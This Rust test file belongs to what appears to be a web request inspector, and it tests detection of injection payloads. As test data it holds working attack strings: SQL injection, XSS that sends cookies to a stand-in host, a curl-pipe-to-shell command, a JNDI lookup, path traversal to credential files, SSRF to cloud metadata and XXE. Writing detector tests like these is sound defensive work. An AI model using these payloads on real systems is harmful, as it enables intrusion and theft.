use super::*;
use crate::config::Config;
use crate::request::headers::Headers;
use crate::stages::CHECKS;
use proptest::prelude::*;
use serde_json::{json, Value};

thread_local! {
    /// Made once: it is the same for all.
    static INSPECTOR: Inspector = Inspector::built_in([7; 16]).unwrap();
}

fn findings_of(section: Value, head: &[(&str, &str)], body: &[u8]) -> Vec<Finding> {
    findings_of_body(section, head, body, &Body::read(body))
}

fn findings_of_body(section: Value, head: &[(&str, &str)], bytes: &[u8], body: &Body) -> Vec<Finding> {
    let document = json!({"version": 1, "inspect": section, "routes": [{"name": "notes", "path": "/notes"}]});
    let config = Config::parse(document.to_string().as_bytes(), CHECKS).unwrap();
    let inspect = config.inspect.as_ref().unwrap();
    let request = Request::new(Headers::from_pairs(head.iter().copied()), || None);
    let path = request.path.as_ref().map(|path| path.normal.clone()).unwrap_or_default();
    let route = config.routes.get(config.routes.find("shop.example", request.method(), &path));
    let mut findings = Findings::default();
    INSPECTOR.with(|inspector| {
        check_head(inspector, inspect, route, &request, &mut findings);
        if !bytes.is_empty() && wants_body(Some(inspect), route, &request) {
            check_body(inspector, inspect, route, &request, (body, bytes), &mut findings);
        }
    });
    findings.iter().cloned().collect()
}

fn ids(findings: &[Finding]) -> Vec<&'static str> {
    findings.iter().map(|finding| finding.check.id).collect()
}

/// What is found in a value of a JSON document.
fn in_json(value: &str) -> Vec<&'static str> {
    let head = [(":method", "POST"), (":path", "/"), ("content-type", "application/json")];
    ids(&findings_of(json!({}), &head, json!({ "value": value }).to_string().as_bytes()))
}

fn in_query(query: &str) -> Vec<&'static str> {
    ids(&findings_of(json!({}), &[(":method", "GET"), (":path", &format!("/?{query}"))], b""))
}

/// For each detector: what it must find, and what looks like it and is harmless.
const CASES: &[(&str, &[&str], &[&str])] = &[
    (
        "payload.sql",
        &[
            "17' OR 'a'='a",
            "x'); DROP TABLE orders; --",
            "9 UNION ALL SELECT name, secret FROM customers",
            "1 AND (SELECT 5 FROM (SELECT(SLEEP(3)))q)",
            "0/**/uNiOn/**/sElEcT/**/1,2",
            "admin'-- ",
        ],
        &[
            "O'Reilly & Sons",
            "select a colour from the list",
            "the union of workers",
            "rock 'n' roll",
            "5\" or 7\" pots",
        ],
    ),
    (
        "payload.script",
        &[
            "<script>fetch('//e.example/'+document.cookie)</script>",
            "\"><img src=x onerror=alert(7)>",
            "javascript:alert(document.domain)",
            "<svg/onload=confirm`1`>",
            "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
        ],
        &["I <3 you", "use the <b> tag for bold text", "x < y and y > z", "the script of the film was good"],
    ),
    (
        "payload.command",
        &[
            "a.png; cat /etc/hostname",
            "x && curl http://e.example/s | sh",
            "$(whoami)",
            "8.8.8.8|id",
            "=cmd|'/c calc'!A1",
        ],
        &[
            "Run `make test` first; then commit.",
            "salt & pepper",
            "cats and dogs",
            "echo the question back to them",
        ],
    ),
    (
        "payload.template",
        &[
            "{{7*7}}",
            "${jndi:ldap://e.example/a}",
            "{{config.items()}}",
            "<%= 7 * 7 %>",
            "<!--#exec cmd=\"ls\" -->",
        ],
        &["Dear Ada, {see below}", "use {} for a set", "costs $5 {net}", "the config class"],
    ),
    (
        "payload.file",
        &[
            "../../../../etc/passwd",
            "..%2f..%2f..%2fboot.ini",
            "/etc/shadow",
            "php://filter/convert.base64-encode/resource=index",
        ],
        &["and so on...", "photos/2026/ada.png", "either/or", "1/2"],
    ),
    (
        "payload.ssrf",
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://localhost:8080/admin",
            "gopher://10.0.0.1:6379/_x",
            "http://0x7f000001/",
        ],
        &["https://shop.example/p/17", "ada@shop.example"],
    ),
    (
        "payload.xml",
        &[
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><r>&x;</r>",
            "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://e.example/x.dtd\"> %x;]>",
        ],
        &["an xml document", "an entity of the state"],
    ),
    ("payload.nosql", &["{\"$gt\": \"\"}", "[$ne]=1"], &["$5", "costs $gt per unit? {no}"]),
    ("payload.ldap", &["*)(&(uid=*))", "(&(uid=ada)(!(x=1)))"], &["(see above)", "5 * 3"]),
    ("payload.xpath", &["') or //user[position()=1] | a[('"], &["a/b", "child"]),
    (
        "payload.header",
        &["en\r\nSet-Cookie: session=7", "x%0d%0aLocation: http://e.example/"],
        &["First line\nSecond line", "a\r\n\r\nb"],
    ),
    (
        "payload.prototype",
        &["__proto__", "constructor.prototype.admin"],
        &["a constructor", "the prototype was built"],
    ),
    (
        "payload.deserialization",
        &["rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "O:8:\"Exploit\":1:{s:3:\"cmd\";s:2:\"id\";}"],
        &["MDEyOk9yZ2FuaXphdGlvbjE=", "O: 8"],
    ),
];

#[test]
fn every_detector_has_its_cases() {
    let named: Vec<&str> = CASES.iter().map(|(id, ..)| *id).collect();
    for detector in detectors::ALL {
        assert!(named.contains(&detector.check.id), "{}", detector.check.id);
    }
}

#[test]
fn attacks_are_found_and_what_looks_like_them_is_not() {
    let mut wrong = Vec::new();
    for (id, attacks, harmless) in CASES {
        let missed = attacks.iter().filter(|text| in_json(text).is_empty());
        wrong.extend(missed.map(|text| format!("{id} missed: {text}")));
        // Languages overlap, but one of the attacks at least has its own name.
        if !attacks.iter().any(|text| in_json(text).contains(id)) {
            let seen: Vec<_> = attacks.iter().map(|text| in_json(text)).collect();
            wrong.push(format!("{id} is never named: {seen:?}"));
        }
        let alarms = harmless.iter().filter(|text| !in_json(text).is_empty());
        wrong.extend(alarms.map(|text| format!("{id} false alarm: {text} {:?}", in_json(text))));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_place_is_looked_at() {
    let bad = "1'%20OR%20'1'='1";
    assert_eq!(in_query(&format!("a=1&id={bad}")), ["payload.sql"]);
    let plain = "1' OR '1'='1";
    for (head, body) in [
        (vec![(":path", "/1'%20OR%20'1'='1")], String::new()),
        (vec![(":path", "/"), ("x-tenant", plain)], String::new()),
        (vec![(":path", "/"), ("accept", "${jndi:ldap://e.example/a}")], String::new()),
        (vec![(":path", "/"), ("cookie", "a=b; id=1' OR '1'='1")], String::new()),
        (vec![(":path", "/"), ("content-type", "application/x-www-form-urlencoded")], format!("a=b&id={bad}")),
        (vec![(":path", "/"), ("content-type", "text/plain")], plain.to_owned()),
        (vec![(":path", "/")], json!([{"a": [plain]}]).to_string()),
    ] {
        let head: Vec<(&str, &str)> = [(":method", "POST")].into_iter().chain(head).collect();
        let found = findings_of(json!({}), &head, body.as_bytes());
        assert_eq!(found.len(), 1, "{head:?} {body}");
    }
}

#[test]
fn nothing_of_the_value_is_in_the_reason() {
    let found = findings_of(json!({}), &[(":path", "/?id=7777'+or+'secretword'='secretword")], b"");
    assert!(
        found[0].reason.contains("`query.id`") && found[0].reason.contains("a tautology"),
        "{}",
        found[0].reason
    );
    assert!(!found[0].reason.contains("secretword"), "{}", found[0].reason);
}

#[test]
fn harmless_text_around_an_attack_does_not_hide_it() {
    let prose = "Thank you for the quick answer and the kind words about our shop. ".repeat(20);
    for attack in ["9 UNION SELECT name FROM customers", "<script>alert(1)</script>", "../../../etc/passwd"] {
        assert!(!in_json(&format!("{prose}{attack} {prose}")).is_empty(), "{attack}");
    }
}

/// However much stands before it, and whatever stands between its words.
#[test]
fn no_filling_gets_an_attack_past() {
    let words = "a ".repeat(6000);
    assert!(!in_json(&format!("{words}' UNION SELECT name FROM customers --")).is_empty());
    assert!(!in_json("9 UNION\nSELECT\nname, secret\nFROM customers").is_empty());
    let head = [(":method", "POST"), (":path", "/"), ("content-type", "multipart/form-data; boundary=b")];
    for kind in ["", "Content-Type: application/octet-stream\r\n", "Content-Type: TEXT/plain\r\n"] {
        let part = format!("Content-Disposition: form-data; name=\"q\"\r\n{kind}\r\n17' OR 'a'='a");
        let body = format!("--b\r\n{part}\r\n--b--\r\n");
        assert_eq!(ids(&findings_of(json!({}), &head, body.as_bytes())), ["payload.sql"], "{kind}");
    }
}

#[test]
fn no_document_of_graphql_gets_an_attack_past() {
    let head = [(":method", "POST"), (":path", "/"), ("content-type", "application/json")];
    let attack = "17' OR 'a'='a";
    for body in [
        json!({"query": "{ me }", "items": [{"query": attack}]}),
        json!({"query": format!("{{ me(name: \"{attack}\") }}")}),
        json!({"query": format!("{{ me }} # {attack}")}),
        json!([{"query": "{ me }"}, {"query": "{ me }", "more": {"query": attack}}]),
    ] {
        let found = findings_of(json!({}), &head, body.to_string().as_bytes());
        assert_eq!(ids(&found), ["payload.sql"], "{body}");
    }
    let harmless = json!([{"query": "{ me { id } }"}, {"query": "{ a { b { c } } }"}]);
    assert!(findings_of(json!({}), &head, harmless.to_string().as_bytes()).is_empty());
}

/// An operator who does not believe one detector believes the others still.
#[test]
fn an_excluded_detector_covers_no_other() {
    let both = "/?text=<script>alert(1)</script>'+UNION+SELECT+name+FROM+customers+--";
    let head = [(":path", both), (":method", "GET")];
    let first = ids(&findings_of(json!({}), &head, b""))[0];
    let second = ids(&findings_of(json!({"exclusions": [{"check": first}]}), &head, b""));
    assert!(second.first().is_some_and(|other| *other != first), "{first} {second:?}");
}

#[test]
fn what_is_about_a_whole_body_can_be_excluded_too() {
    let head = [(":method", "POST"), (":path", "/notes"), ("content-type", "application/json")];
    for (check, body) in [
        ("payload.privileged_field", r#"{"role": "x"}"#),
        ("payload.mismatch", r#"{"a": 1, "a": 2}"#),
        ("graphql.introspection", r#"{"query": "{ __schema { types { name } } }"}"#),
    ] {
        assert_eq!(ids(&findings_of(json!({}), &head, body.as_bytes())), [check]);
        let section = json!({"exclusions": [{"route": "notes", "check": check}]});
        assert!(findings_of(section, &head, body.as_bytes()).is_empty(), "{check}");
    }
}

/// A type that nobody knows is no way around.
#[test]
fn no_content_type_gets_an_attack_past() {
    let document = json!({"note": "17' OR 'a'='a"}).to_string();
    for kind in ["application/x-json", "foo/bar", "application/json, text/plain", ";", "application/javascript"] {
        let head = [(":method", "POST"), (":path", "/"), ("content-type", kind)];
        assert_eq!(ids(&findings_of(json!({}), &head, document.as_bytes())), ["payload.sql"], "{kind}");
    }
    let head =
        [(":method", "POST"), (":path", "/"), ("content-type", "application/json"), ("content-encoding", "gzip")];
    assert_eq!(ids(&findings_of(json!({}), &head, b"\x1f\x8b")), ["payload.uninspected"]);
}

#[test]
fn what_is_not_believed_is_not_found() {
    let attack = "/notes?text=1'+or+'1'='1";
    for (exclusion, left) in [
        (json!({"route": "notes"}), 0),
        (json!({"route": "notes", "place": "query.text"}), 0),
        (json!({"place": "query.*", "check": "payload.sql"}), 0),
        (json!({"check": "payload.script"}), 1),
        (json!({"place": "query.id"}), 1),
        (json!({"place": "query.id*", "route": "notes"}), 1),
    ] {
        let found =
            findings_of(json!({ "exclusions": [exclusion] }), &[(":path", attack), (":method", "GET")], b"");
        assert_eq!(found.len(), left, "{exclusion}");
    }
}

#[test]
fn a_body_that_is_not_what_it_says_is_a_finding() {
    let head = [(":method", "POST"), (":path", "/"), ("content-type", "application/json")];
    for body in ["{\"a\": 1, \"a\": 2}", "a=1", "{"] {
        assert_eq!(ids(&findings_of(json!({}), &head, body.as_bytes())), ["payload.mismatch"], "{body}");
    }
}

#[test]
fn streams_and_binary_bodies_are_not_waited_for() {
    let config = Config::parse(br#"{"version": 1, "inspect": {}}"#, CHECKS).unwrap();
    let route = config.routes.get(crate::config::RouteId::Unmatched);
    for (name, value) in [
        ("content-type", "application/grpc"),
        ("upgrade", "websocket"),
        ("content-type", "image/png"),
        ("content-type", "text/event-stream"),
    ] {
        let request = Request::new(Headers::from_pairs([(":method", "POST"), (name, value)]), || None);
        assert!(!wants_body(config.inspect.as_ref(), route, &request), "{value}");
    }
}

#[test]
fn certainty_is_a_score_between_challenge_and_denial() {
    assert_eq!(score(0.0).value(), SCORE_MIN);
    assert_eq!(score(100.0).value(), SCORE_MAX);
    assert!(score(2.0).value() > SCORE_MIN && score(2.0).value() < SCORE_MAX);
}

proptest! {
    #[test]
    fn no_value_panics(text in "(union|select|'|\"|<|script|>|\\{\\{|\\$\\{|%27|/\\*|\\*/|;|\\.\\./|&#|é|\\PC|\n){0,80}") {
        let _ = in_json(&text);
        let _ = in_query(&text);
    }
}

#[test]
fn what_a_program_wrote_before_is_found_again_and_again() {
    let attack = [(":method", "GET"), (":path", "/"), ("x-client", "<script>alert(1)</script>")];
    let held_back = json!({"exclusions": [{"check": "payload.script"}]});
    assert_eq!(ids(&findings_of(held_back, &attack, b"")), [""; 0]);
    for _ in 0..3 {
        // What is not believed was not remembered as harmless.
        assert_eq!(ids(&findings_of(json!({}), &attack, b"")), ["payload.script"]);
    }
}

#[test]
fn the_beginning_of_a_body_is_inspected_where_its_end_is_not_there() {
    let form = "multipart/form-data; boundary=x";
    let part = "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n";
    let attack = "1' OR 'a'='a";
    let harmless = "a note, of no interest (to anybody)";
    let bodies = [
        ("application/json", format!(r#"{{"orders": [{{"note": "{attack}"}}, {{"note": "and so"#)),
        ("application/x-www-form-urlencoded", format!("a={attack}&b=and+so")),
        (form, format!("{part}{attack}\r\n{part}and so")),
        ("text/plain", format!("{attack} and so")),
    ];
    for (kind, beginning) in bodies {
        let head = [(":method", "POST"), (":path", "/notes"), ("content-type", kind)];
        let found = |beginning: &str| {
            let unread = Body::unread(Unread::TooLong);
            ids(&findings_of_body(json!({}), &head, beginning.as_bytes(), &unread))
        };
        assert_eq!(found(&beginning), ["payload.uninspected", "payload.sql"], "{kind}");
        assert_eq!(found(&beginning.replace(attack, harmless)), ["payload.uninspected"], "{kind}");
    }
}
